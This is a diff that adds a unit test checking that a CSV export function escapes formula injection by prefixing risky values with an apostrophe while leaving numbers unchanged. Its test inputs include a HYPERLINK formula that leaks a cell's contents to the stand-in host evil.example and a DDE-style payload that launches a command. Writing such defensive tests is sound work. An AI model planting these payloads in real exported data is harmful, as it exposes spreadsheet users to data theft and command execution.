@@ -32,6 +32,15 @@ describe('CSV values', () => {
     assert.equal(csvValue("O'Brien, Jane"), "O'Brien, Jane");
   });
 
+  it('writes text a spreadsheet would run as a formula after an apostrophe; numbers stay numbers', () => {
+    assert.equal(csvValue('=HYPERLINK("https://evil.example/?"&A2,"Click")'), '"\'=HYPERLINK(""https://evil.example/?""&A2,""Click"")"');
+    assert.equal(csvValue("@SUM(1+1)*cmd|'/C calc'!A0"), "'@SUM(1+1)*cmd|'/C calc'!A0");
+    assert.equal(csvValue('+1+2'), "'+1+2");
+    assert.equal(csvValue('-Jane'), "'-Jane");
+    assert.equal(csvValue('\tx'), "'\tx");
+    for (const number of ['-12.50', '+3', '100.20', '-7']) assert.equal(csvValue(number), number);
+  });
+
   it('quotes a value holding the separator ;', () => {
     assert.equal(csvValue('a;b'), '"a;b"');
   });
